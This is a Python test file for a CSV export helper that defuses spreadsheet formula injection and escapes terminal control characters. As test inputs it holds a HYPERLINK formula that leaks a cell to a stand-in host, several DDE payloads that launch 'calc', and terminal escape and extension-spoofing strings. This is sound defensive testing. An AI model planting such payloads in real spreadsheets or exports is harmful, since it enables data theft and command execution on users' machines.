"""Tables as CSV: what a spreadsheet would take for a formula stands as a text, everything else as it is."""

from __future__ import annotations

import csv
import io
import itertools
import math
from typing import Any

import pytest

from bellwether.exchange.records import EvaluationRecord
from bellwether.exchange.scores import Totals
from bellwether.store.history import evaluation_csv, evaluation_rows
from bellwether.tools.spreadsheet import csv_table


def read(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode(), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?" & A1, "open")',
        "=1+1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\tx",
        "\nx",
        "＝1+1",
        "--1",
        "-Infinity",
    ],
)
def test_what_a_spreadsheet_could_compute_is_a_text(text: str) -> None:
    assert read(csv_table(["name"], [[text]])) == [["name"], [f"'{text}"]]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("end", [";", "\t", "\n", "\r", "\r\n"])
def test_no_cell_is_a_formula_wherever_a_spreadsheet_divides_lines(separator: str, end: str) -> None:
    begins = ["x", "", '"', "x, y", 'say "x"', "x;", "\t", "-1"]
    gaps = ["", "  ", "\u00a0", '"', ' " "', ";", "\t"]
    for begin, gap, sign in itertools.product(begins, gaps, "=+-@＝＋－＠"):
        text = f"{begin}{end}{gap}{sign}1+cmd|'/C calc'!A0{end}y"
        table = csv_table(["n", text], [[text, "x", text, text], ["x", text, 0.3, text]]).decode()
        for line in csv.reader(io.StringIO(table, newline=""), delimiter=separator):
            assert not [cell for cell in line if cell.strip('" \t\n\u00a0').startswith(tuple("=+-@＝＋－＠"))]


def test_only_what_a_formula_follows_is_changed() -> None:
    texts = ["x;=1+cmd|'/C calc'!A0;y", "a; b\tc\nd", "a;1", "x; -1\n@y", "\t=1+1", "\n=1+1"]
    told = ["x;'=1+cmd|'/C calc'!A0;y", "a; b\tc\nd", "a;1", "x;' -1\n'@y", "'\t'=1+1", "'\n'=1+1"]
    assert read(csv_table(["t"], [[text] for text in texts]))[1:] == [[text] for text in told]


@pytest.mark.parametrize("value", [-0.3, -12, 1e-9, "-0.3", "+5", "-1.5e-7", "-.5", 0])
def test_numbers_stay_numbers(value: Any) -> None:
    ((shown,),) = read(csv_table(["n"], [[value]]))[1:]
    assert float(shown) == float(value)


@pytest.mark.parametrize("text", ["a=b", "'=1+1", "plain", "a,b", 'say "x"', "two\nlines", "1-2", "ä€😀", " =1"])
def test_other_texts_are_written_as_they_are(text: str) -> None:
    assert read(csv_table(["t"], [[text]])) == [["t"], [text]]


def test_a_carriage_return_begins_no_line() -> None:
    texts = ["\r=1+1", "a\r=1+1", "a\r\n=1+1"]
    assert read(csv_table(["t"], [[text] for text in texts]))[1:] == [["'\n'=1+1"], ["a\n'=1+1"], ["a\n'=1+1"]]


def test_heads_are_defused_too() -> None:
    assert read(csv_table(["arm", "=cmd()"], [])) == [["arm", "'=cmd()"]]


def test_what_is_not_there_or_not_finite_has_its_own_words() -> None:
    assert (
        csv_table(["a", "b", "c", "d"], [[None, math.nan, math.inf, -math.inf]])
        == b"a,b,c,d\n,NaN,Infinity,-Infinity\n"
    )


def test_half_a_character_does_not_break_the_table() -> None:
    assert csv_table(["a"], [["\ud800"]]) == b"a\n\\ud800\n"


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("\x1b]0;owned\x07\x1b[2J", "\\x1b]0;owned\\x07\\x1b[2J"),
        ("a\x00=1+1", "a\\x00=1+1"),
        ("\x00=1+1", "\\x00=1+1"),
        ("\ufeff=1+1", "\\ufeff=1+1"),
        ("txt.\u202eexe", "txt.\\u202eexe"),
        ("a\x85b\u2028c\x0bd", "a\\x85b\\u2028c\\x0bd"),
        ("می\u200cخواهم 👩\u200d🌾", "می\u200cخواهم 👩\u200d🌾"),
    ],
)
def test_what_would_steer_a_terminal_stands_as_its_escape(text: str, told: str) -> None:
    table = csv_table(["name", text], [[text, 1]])
    assert read(table) == [["name", told], [told, "1"]]
    assert not [mark for mark in table.decode() if ord(mark) < 32 and mark != "\n"]


def test_a_category_in_the_scores_of_a_run_is_no_formula() -> None:
    record = EvaluationRecord(0, "test", {"=1+1": Totals(2, 10, 20.0, 2, 0.5, 1)}, 0.1)
    rows = read(evaluation_csv(evaluation_rows([record])))
    assert rows[2][2] == "'=1+1"
